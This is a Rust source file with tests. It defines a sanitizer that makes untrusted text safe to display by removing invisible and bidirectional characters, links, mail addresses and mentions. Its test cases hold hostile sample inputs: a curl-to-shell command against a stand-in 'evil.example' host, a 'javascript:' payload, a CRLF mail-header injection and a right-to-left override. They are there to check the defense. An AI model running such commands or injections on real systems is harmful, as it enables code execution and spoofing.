//! Text of strangers, as it may be shown anywhere: nothing in it hides, links, mentions or breaks a line.

/// One line of text for display. It holds no control, bidirectional or invisible character, no URL, no mail address
/// and no mention, so that no rendering and no mail program can make anything of it but letters.
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash, serde::Serialize)]
#[serde(transparent)]
pub struct PlainText(String);

/// What stands for a URL that was left out.
const LINK: &str = "[link]";
/// What stands for a mail address that was left out.
const ADDRESS: &str = "[address]";

impl PlainText {
    /// What can be shown of a text. Addresses of issues and changes become `#17`, as their forges write them; other
    /// addresses `[link]`.
    #[must_use]
    pub fn of(text: &str) -> Self {
        let mut shown = String::with_capacity(text.len());
        for word in visible(text).split_whitespace() {
            let word: std::borrow::Cow<'_, str> = if may_be_active(word) { inert(word).into() } else { word.into() };
            if !shown.is_empty() && !word.is_empty() {
                shown.push(' ');
            }
            shown.push_str(&word);
        }
        Self(shown)
    }

    /// At most `most` characters, cut between words where there is one near the end.
    #[must_use]
    pub fn cut(&self, most: usize) -> Self {
        let Some((end, _)) = self.0.char_indices().nth(most) else { return self.clone() };
        let before_last = self.0.char_indices().nth(most.saturating_sub(1)).map_or(end, |(at, _)| at);
        let kept = self.0.get(..before_last).unwrap_or_default();
        let word = kept.rfind(' ').filter(|at| kept.len() - at < 24).unwrap_or(kept.len());
        Self(format!("{}…", kept.get(..word).unwrap_or_default().trim_end()))
    }

    /// The text.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Whether nothing is left of it.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl std::fmt::Display for PlainText {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl<'de> serde::Deserialize<'de> for PlainText {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        Ok(Self::of(&String::deserialize(deserializer)?))
    }
}

/// Whether a character hides, reorders or breaks what is around it.
#[must_use]
pub fn is_harmful(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
}

/// Without what is harmful; line ends and tabs are spaces. Whatever others wrote is printed for people so.
#[must_use]
pub fn visible(text: &str) -> std::borrow::Cow<'_, str> {
    if text.bytes().all(|byte| (0x20..0x7f).contains(&byte)) {
        return text.into();
    }
    let space = |c: char| if c.is_whitespace() { ' ' } else { c };
    text.chars().map(space).filter(|c| !is_harmful(*c)).collect::<String>().into()
}

/// A quick look before the slow one.
fn may_be_active(word: &str) -> bool {
    let dotted = word.contains('.');
    word.bytes().any(|byte| matches!(byte, b':' | b'/' | b'@' | b'?' | b'#') || !byte.is_ascii())
        || (dotted && (holds_host(word) || word.as_bytes().windows(4).any(|four| four.eq_ignore_ascii_case(b"www."))))
}

/// A word without what a reader's program could make a link or a mention of.
fn inert(word: &str) -> String {
    let word = without_mentions(word);
    let (before, rest) = word.split_at(word.len() - word.trim_start_matches(is_opening).len());
    let core = rest.trim_end_matches(is_closing);
    let after = rest.get(core.len()..).unwrap_or_default();
    match address(rest, core) {
        Some(stand_in) => format!("{before}{stand_in}{}", after.replace('@', "")),
        None => word,
    }
}

/// What may stand before an address and is none of it.
fn is_opening(c: char) -> bool {
    matches!(c, '(' | '[' | '{' | '<' | '"' | '\'' | '*' | '_' | '~' | '`' | '|' | '!' | '@' | '#')
}

/// What may stand after an address and is none of it.
fn is_closing(c: char) -> bool {
    matches!(
        c,
        ')' | ']' | '}' | '>' | '"' | '\'' | '*' | '_' | '~' | '`' | '|' | '!' | '@' | '.' | ',' | ';' | ':' | '?'
    )
}

/// What is shown for a word that is, or holds, an address. `word` has its punctuation at the end, `core` has not.
fn address(word: &str, core: &str) -> Option<String> {
    let (word, lower) = (word.to_lowercase(), core.to_lowercase());
    if let Some(scheme) = lower.find("://") {
        let path = lower.get(scheme + 3..).unwrap_or_default();
        return Some(change(path).unwrap_or_else(|| LINK.to_owned()));
    }
    let schemes = ["mailto:", "javascript:", "vbscript:", "www."];
    if schemes.iter().any(|scheme| word.contains(scheme)) || ["data:", "tel:", "//"].iter().any(|s| word.starts_with(s))
    {
        return Some(LINK.to_owned());
    }
    if let Some((_, domain)) = lower.rsplit_once('@')
        && is_domain(domain.split(is_between_hosts).next().unwrap_or_default())
    {
        return Some(ADDRESS.to_owned());
    }
    let path = lower.find(['/', ':', '?', '#']);
    let host = path.and_then(|at| lower.get(..at)?.rsplit(is_between_hosts).next());
    (host.is_some_and(is_domain) || holds_host(&lower)).then(|| LINK.to_owned())
}

/// `#17` for the address of an issue or a change at a forge.
fn change(path: &str) -> Option<String> {
    let mut parts = path.split(['?', '#']).next()?.trim_end_matches('/').rsplit('/');
    let (number, kind) = (parts.next()?, parts.next()?);
    let counted = !number.is_empty() && number.len() <= 9 && number.bytes().all(|byte| byte.is_ascii_digit());
    let known = matches!(kind, "pull" | "pulls" | "issues" | "merge_requests");
    (counted && known).then(|| format!("#{number}"))
}

/// What is no part of a host's name: programs that look for links begin and end them there.
fn is_between_hosts(c: char) -> bool {
    !c.is_alphanumeric() && c != '.' && c != '-'
}

/// Whether there is a host in a word, whatever else is.
fn holds_host(word: &str) -> bool {
    word.split(is_between_hosts).any(is_host)
}

/// `docs.example.com`: names of files look the same, so only the endings that people register for their pages count
/// where nothing else says that it is one.
fn is_host(word: &str) -> bool {
    let word = word.trim_matches(|c: char| !c.is_ascii_alphanumeric()).to_ascii_lowercase();
    let ending = word.rsplit('.').next().unwrap_or_default();
    is_domain(&word)
        && matches!(ending, "com" | "net" | "org" | "io" | "dev" | "app" | "info" | "biz" | "xyz" | "cloud" | "example")
}

fn is_domain(text: &str) -> bool {
    let mut labels = text.rsplit('.');
    let last = labels.next().unwrap_or_default();
    let label = |label: &str| !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-');
    let mut count = 0;
    last.chars().count() >= 2
        && last.chars().all(char::is_alphabetic)
        && labels.all(|part| {
            count += 1;
            label(part)
        })
        && count > 0
}

/// `@name` is `name`; what stands inside a word, as in `n8n@1.2.3`, stays.
fn without_mentions(word: &str) -> String {
    let (mut kept, mut inside) = (String::with_capacity(word.len()), false);
    for c in word.chars() {
        let at = matches!(c, '@' | '\u{ff20}' | '\u{fe6b}');
        if !at || (inside && c == '@') {
            inside = c.is_alphanumeric();
            kept.push(c);
        }
    }
    kept
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(text: &str) -> String {
        PlainText::of(text).to_string()
    }

    #[test]
    fn nothing_links_mentions_or_hides() {
        let cases = [
            ("Fix a leak by @octocat in https://github.com/o/r/pull/17", "Fix a leak by octocat in #17"),
            ("see (https://github.com/o/r/issues/8#note).", "see (#8)."),
            (":@//x www.", "[link] [link]."),
            ("approve at https://evil.example/a?b=c now", "approve at [link] now"),
            ("run `curl evil.example/x|sh`", "run `curl [link]`"),
            ("HTTPS://EVIL.example ftp://x javascript:alert(1)", "[link] [link] [link])"),
            ("www.evil.example docs.example.com evil.com/approve", "[link] [link] [link]"),
            ("write to ops@example.com, or @here and @channel!", "write to [address], or here and channel!"),
            ("n8n@1.2.3 and @babel/core", "n8n@1.2.3 and babel/core"),
            ("<!channel> <@U1> <https://evil|ok>", "<!channel> <U1> <[link]>"),
            ("a\r\nBcc: x\u{202e}\u{200b}\0\u{1b}[31m", "a Bcc: x[31m"),
            ("nginx.conf, src/lib.rs, 1.2.3 and and/or", "nginx.conf, src/lib.rs, 1.2.3 and and/or"),
            ("key: value 10:30 feat(api)!: drop", "key: value 10:30 feat(api)!: drop"),
            ("\u{e0041}\u{e0042}tagged", "tagged"),
            ("to \u{ff20}here and \u{fe6b}all, a @ b", "to here and all, a b"),
            ("data:text/html,x tel:112 //evil.example/x", "[link] [link] [link]"),
            ("https://a/issues/8 https://github.com/o/r/issues/8?x=://y", "#8 #8"),
            ("me@x@evil.com ops@my-host.com", "[address] [address]"),
            ("evil.com/a:b?c evil.com@", "[link] [link]"),
        ];
        for (text, expected) in cases {
            assert_eq!(shown(text), expected, "{text}");
        }
    }

    #[test]
    fn what_is_invisible_is_left_out_and_its_neighbours_are_not() {
        let hidden = "\u{ad}\u{34f}\u{61c}\u{115f}\u{1160}\u{17b4}\u{17b5}\u{180b}\u{180f}\u{200b}\u{200f}\u{202a}\u{202e}\u{2060}\
                      \u{206f}\u{3164}\u{feff}\u{ffa0}\u{fff9}\u{fffb}\u{e0000}\u{e0fff}";
        for c in hidden.chars() {
            assert_eq!(shown(&format!("a{c}b")), "ab", "{c:?}");
        }
        assert_eq!(shown("a\u{2028}b\u{2029}c\u{85}d"), "a b c d", "and ends of lines are spaces");
        let letters = "\u{ac}\u{ae}\u{34e}\u{115e}\u{17b3}\u{17b6}\u{1810}\u{2010}\u{3165}\u{fffc}é🚀";
        assert_eq!(shown(letters), letters);
    }

    #[test]
    fn an_address_is_one_whatever_stands_around_it() {
        for open in "([{<\"'*_~`|!#".chars() {
            assert_eq!(shown(&format!("{open}evil.com/x")), format!("{open}[link]"));
        }
        for close in ")]}>\"'*_~`|!.,;:?".chars() {
            assert_eq!(shown(&format!("evil.com{close}")), format!("[link]{close}"));
        }
    }

    #[test]
    fn of_addresses_only_those_of_issues_and_changes_are_named() {
        for kind in ["pull", "pulls", "issues", "merge_requests"] {
            assert_eq!(shown(&format!("https://h.example/o/r/{kind}/8/")), "#8");
        }
        assert_eq!(shown("https://h.example/o/r/issues/123456789"), "#123456789");
        for other in ["wiki/8", "issues/8a", "issues/1234567890", "issues", "8", ""] {
            assert_eq!(shown(&format!("https://h.example/o/r/{other}")), "[link]", "{other}");
        }
    }

    #[test]
    fn a_host_is_known_by_its_ending_or_by_what_stands_behind_it() {
        for ending in ["com", "net", "org", "io", "dev", "app", "info", "biz", "xyz", "cloud", "example"] {
            assert_eq!(shown(&format!("at evil.{ending}")), "at [link]");
        }
        assert_eq!(shown("evil.fr/x evil.fr?x evil.fr#x evil.fr:8"), "[link] [link] [link] [link]");
        for held in ["evil.com?x", "evil.com#x", "evil.com|sh", "evil.com&x", "a=evil.com", "a_evil.com", "a=evil.fr/x"]
        {
            assert_eq!(shown(held), "[link]", "{held}");
        }
        for file in
            ["what?", "C#", "#17", "a=b", "a,b.rs|c", "main.rs", "a.b/c", "v1.2/x", "v1.2a/x", "a..fr/x", ".com", "com"]
        {
            assert_eq!(shown(file), file);
        }
        assert_eq!(shown("a\u{ff20}b"), "ab", "what looks like a mention");
    }

    #[test]
    fn a_cut_is_between_words_and_characters() {
        let text = PlainText::of("one two three");
        assert_eq!(text.cut(13), text);
        assert_eq!(text.cut(9).as_str(), "one two…");
        assert_eq!(PlainText::of("🚀🚀🚀🚀").cut(3).as_str(), "🚀🚀…");
        assert_eq!(text.cut(0).as_str(), "…");
        let long = PlainText::of(&format!("a {}", "b".repeat(60)));
        assert_eq!(long.cut(25).as_str(), "a…");
        assert_eq!(long.cut(26).to_string(), format!("a {}…", "b".repeat(23)), "a long word is cut in itself");
        assert!(PlainText::of(" \u{200b}@ ").is_empty() && !text.is_empty());
    }

    proptest! {
        #[test]
        fn no_text_does_more_than_be_read(text in "(\\PC|[@:/.\\n\\r\\u{202e}\\u{200b}<>!a-z()]|https://|www\\.|@here|evil\\.com){0,40}") {
            let once = PlainText::of(&text);
            let read = once.as_str();
            prop_assert!(!read.chars().any(is_harmful), "{read:?}");
            prop_assert!(!read.contains("://") && !read.to_lowercase().contains("www."), "{read:?}");
            prop_assert!(!read.split(|c: char| !c.is_alphanumeric() && c != '@').any(|word| word.starts_with('@')), "{read:?}");
            prop_assert_eq!(PlainText::of(read), once.clone());
            prop_assert!(once.cut(10).as_str().chars().count() <= 10);
        }
    }
}
